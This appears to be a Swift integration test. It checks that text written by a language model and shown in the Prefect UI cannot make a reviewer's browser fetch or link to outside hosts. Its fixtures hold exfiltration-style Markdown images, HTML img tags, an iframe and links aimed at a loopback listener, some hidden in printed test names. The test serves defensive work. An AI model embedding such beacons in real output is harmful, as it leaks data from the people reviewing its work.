import Foundation
import JSON
import PrefectAPI
import Testing

/// Model text in the Prefect UI cannot fetch or link: a design with an image, an HTML image and an iframe, a
/// design question with an image (the Resume form's description), and model-written tests that print test names
/// holding images (the results table; in the v1 UI cells are Markdown), all pointing at a loopback listener.
/// Headless Chromium opens every page a reviewer would, in the v1 and the v2 UI; the listener must receive
/// nothing. Before the neutralization, Chromium fetched the design's image and the table cell's image.
@Suite("Prefect integration: model text in the UI cannot fetch or link", .serialized, .timeLimit(.minutes(5)))
struct UIExfiltrationTests {
    @Test func noPageAReviewerOpensFetchesAnything() async throws {
        let listener = try await TestEnvironment.freePort()
        let leak = "http://127.0.0.1:\(listener)"
        let design = """
            # Architecture

            One module, `calc.py`. ![pixel](\(leak)/design-image?key=K) <img src="\(leak)/design-html"> <iframe src="\(leak)/design-frame"></iframe>
            [Approve here](\(leak)/design-link) or see \(leak)/design-bare.

            ## Open questions
            - Which rounding? ![q](\(leak)/question-image)
            """
        let tests = """
            import unittest

            import calc

            # Lines a pytest run would print: the runner's verbose lines are where per-test names come from.
            print("test_calc.py::![t](\(leak)/test-name-image) PASSED")
            print("test_calc.py::<img src=\(leak)/test-name-html> PASSED")


            class AddTest(unittest.TestCase):
                def test_adds(self):
                    self.assertEqual(calc.add(2, 3), 5)
            """
        func files(_ list: [(String, String)]) -> JSONValue {
            .string(JSONValue.object(["files": .array(list.map { ["path": .string($0.0), "content": .string($0.1)] })]).jsonText())
        }
        let model = try FixtureServer(script: "fake_llm_server.py")
        defer { model.stop() }
        let project = try TestProject(llm: ["provider: claude", "base_url: \(model.base)/scripted"])
        let answers: JSONValue = [
            "design": .string(design), "implement": files([("calc.py", "def add(a, b):\n    return a + b\n")]),
            "test": files([("test_calc.py", tests)]), "verify": .string("# Verification\n\n![v](\(leak)/verify-image)\n\nVerdict: PASS\n"),
        ]
        _ = try await runProgram("/usr/bin/curl", ["-fsS", "-X", "POST", "-H", "Content-Type: application/json", "--data-binary", answers.jsonText(), "\(model.base)/answers"])
        try await project.startWorker(env: ["ANTHROPIC_API_KEY": "sk-ant-test"])
        try await withCleanup {
            let runID = try await project.prefectRun()
            try await project.waitFor(runID, timeout: .seconds(90), "Suspended at design-review") { $0.stateType == .paused }
            let ui = String(project.apiURL.dropLast(4))
            let shots = "\(project.dir)/screenshots"
            try FileManager.default.createDirectory(atPath: shots, withIntermediateDirectories: true)
            let first = try await open(["resume:\(ui):\(runID)"] + artifactPages(project, runID, ui, keys: ["autonomy-design"]), listener: listener, shots: shots + "/1")
            #expect(first.status == 0, "\(first.stdout)\n\(first.stderr)")

            let resumed = try await project.autonomy(["resume", runID, "--choice", "approve"])
            #expect(resumed.status == 0, "\(resumed.stderr)")
            let run = try await project.waitFinal(runID, timeout: .seconds(120))
            #expect(run.stateType == .completed, "\(run.state?.message ?? "")")
            let table = try await project.client.artifacts(flowRunID: runID).first { $0.key == "autonomy-test-results" }?.data?.stringValue ?? ""
            #expect(table.contains("test-name-image"), "the results table lacks the printed names: \(table.prefix(500))")
            let second = try await open(try await artifactPages(project, runID, ui, keys: ["autonomy-test-results", "autonomy-implementation", "autonomy-verification"]), listener: listener, shots: shots + "/2")
            #expect(second.status == 0, "\(second.stdout)\n\(second.stderr)")
            for result in [first, second] {
                #expect(result.stdout.contains("REQUESTS 0\n"), "the listener was reached (screenshots in \(shots)):\n\(result.stdout)")
            }
            // The pages really showed the model's text (so a fetch was possible).
            #expect(first.stdout.contains("design-image"), "\(first.stdout.prefix(3000))")
            #expect(second.stdout.contains("test-name-image"), "\(second.stdout.prefix(3000))")
        } cleanup: {
            await project.stopWorkers()
        }
    }

    /// The artifact pages of both UIs (v1 at the root, v2 under /v2) for the newest artifact of each key.
    func artifactPages(_ project: TestProject, _ runID: String, _ ui: String, keys: [String]) async throws -> [String] {
        let artifacts = try await project.client.artifacts(flowRunID: runID)
        return keys.flatMap { key -> [String] in
            guard let id = artifacts.first(where: { $0.key == key })?.id else { return ["missing-artifact:\(key)"] }
            return ["\(ui)/artifacts/artifact/\(id)", "\(ui)/v2/artifacts/artifact/\(id)"]
        }
    }

    func open(_ pages: [String], listener: Int, shots: String) async throws -> ProgramResult {
        try FileManager.default.createDirectory(atPath: shots, withIntermediateDirectories: true)
        let python = URL(fileURLWithPath: try TestEnvironment.prefectCLI()).deletingLastPathComponent().appendingPathComponent("python").path
        return try await runProgram(python, [FixtureServer.fixtures.appendingPathComponent("ui_exfil.py").path, "\(listener)", shots] + pages, timeout: .seconds(240))
    }
}
